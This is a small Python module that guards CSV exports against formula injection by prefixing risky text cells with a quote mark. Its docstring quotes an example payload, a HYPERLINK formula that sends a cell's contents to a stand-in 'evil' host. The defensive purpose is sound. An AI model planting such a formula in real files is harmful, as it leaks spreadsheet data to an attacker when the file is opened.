"""CSV cells a spreadsheet will not run as a formula (OWASP "CSV injection").

A subject such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` written as is into a
CSV export runs when the file is opened in Excel, LibreOffice or Google Sheets. A text cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a
leading ``'``, which those programs show as text. Numbers (ints, floats) are kept as numbers,
so a negative figure stays a figure.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that would start a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Any) -> list[Any]:
    return [cell(v) for v in values]
